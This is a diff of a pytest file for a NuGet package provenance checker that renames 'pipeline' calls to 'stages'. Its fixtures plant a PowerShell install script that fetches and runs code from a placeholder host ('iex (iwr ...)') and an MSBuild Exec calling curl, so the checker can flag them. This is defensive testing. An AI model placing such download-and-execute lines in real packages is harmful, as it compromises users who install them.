@@ -7,7 +7,7 @@ import re
 import pytest
 from packageurl import PackageURL
 
-from ossprov import ecosystems, pipeline
+from ossprov import ecosystems, stages
 from ossprov.errors import InputError, RegistryError
 from ossprov.fixtures.nuget import nuspec, publish_nuget
 from ossprov.fixtures.world import World
@@ -34,7 +34,7 @@ def project(world: World, name: str = "tool"):
 def test_nupkg_with_repository_commit_is_located_there(world: World) -> None:
     _, sha = project(world)
     spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/tool.git", commit=sha)
-    result = pipeline.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
+    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
     assert result.locate.commit == sha
     assert result.locate.artifact and result.locate.artifact.digest_ok is True
     statuses = {r.path: r.status for r in result.file_results}
@@ -49,7 +49,7 @@ def test_nupkg_with_repository_commit_is_located_there(world: World) -> None:
 def test_without_commit_content_search_finds_it(world: World) -> None:
     _, sha = project(world, "nocommit")
     spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/nocommit")
-    result = pipeline.locate(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
+    result = stages.locate(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
     assert result.commit == sha
     assert any(e.kind == "content-match" for e in result.evidence)
 
@@ -58,7 +58,7 @@ def test_install_script_absent_from_repository_is_high(world: World) -> None:
     _, sha = project(world, "hooked")
     spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/hooked", commit=sha)
     files = {**SHIPPED, "tools/install.ps1": "iex (iwr http://x.example/p.ps1)\n"}
-    result = pipeline.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
+    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.path == "tools/install.ps1" and f.severity is Severity.HIGH for f in result.findings)
 
@@ -68,7 +68,7 @@ def test_modified_content_file_is_reported(world: World) -> None:
     spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/edited", commit=sha)
     files = {**SHIPPED, "build/Acme.Tool.props": "<Project><Target Name='x'><Exec Command='curl x'/></Target>"
              "</Project>\n"}
-    result = pipeline.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
+    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
     props = next(r for r in result.file_results if r.path == "build/Acme.Tool.props")
     assert props.status is FileStatus.MODIFIED and props.source_path == "src/Acme.Tool/build/Acme.Tool.props"
     assert any(f.path == "build/Acme.Tool.props" and f.severity is Severity.HIGH for f in result.findings)
@@ -93,7 +93,7 @@ def test_release_metadata(world: World) -> None:
 def test_broken_or_hostile_nuspec(world: World, spec: str, message: str) -> None:
     purl = publish_nuget(world, "Acme.Bad", "1.0.0", spec, {})
     with pytest.raises(RegistryError, match=message):
-        pipeline.locate(purl)
+        stages.locate(purl)
 
 
 def test_source_from_nuget_config(world: World, own_home, monkeypatch) -> None:
